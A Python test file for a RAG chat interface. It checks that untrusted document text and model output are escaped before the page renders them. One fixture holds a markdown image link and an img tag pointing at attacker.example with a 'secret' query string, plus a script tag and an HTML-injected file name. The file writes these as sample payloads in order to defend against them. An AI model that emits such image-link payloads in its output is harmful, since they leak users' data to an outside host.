"""What the chat page renders from untrusted text (documents, model output)."""

from __future__ import annotations

from appliance.rag import Answer, Source
from ui.chat import citation_footer, inert, render_sources


def _source(text: str, name: str = "memo.pdf") -> Source:
    return Source(number=1, path=f"/share/{name}", file_name=name, page=2, page_name=None, section=["Intro"],
                  score=0.5, dense_score=0.61, keyword_score=None, text=text)


def test_document_text_cannot_fetch_or_inject() -> None:
    evil = "See ![x](http://attacker.example/?q=secret) and <img src=http://attacker.example/a.png> <script>1</script>"
    out = render_sources(Answer("q", "a", [_source(evil, name="<b>x</b>.pdf")], grounded=True, cited=[1]))
    assert "<img" not in out
    assert "<script" not in out
    assert "![" not in out
    assert "&lt;b&gt;x&lt;/b&gt;.pdf" in out
    assert "page 2" in out
    assert "similarity 0.61" in out
    assert "✓ cited" in out


def test_model_output_is_made_inert() -> None:
    assert inert("![t](http://h/x) <img src=y>") == "!&#91;t](http://h/x) &lt;img src=y&gt;"


def test_footer_lists_sources_only_for_grounded_answers() -> None:
    grounded = Answer("q", "a", [_source("t")], grounded=True)
    assert "[1] memo.pdf, page 2" in citation_footer(grounded)
    assert citation_footer(Answer("q", "a", [_source("t")], grounded=False)) == ""
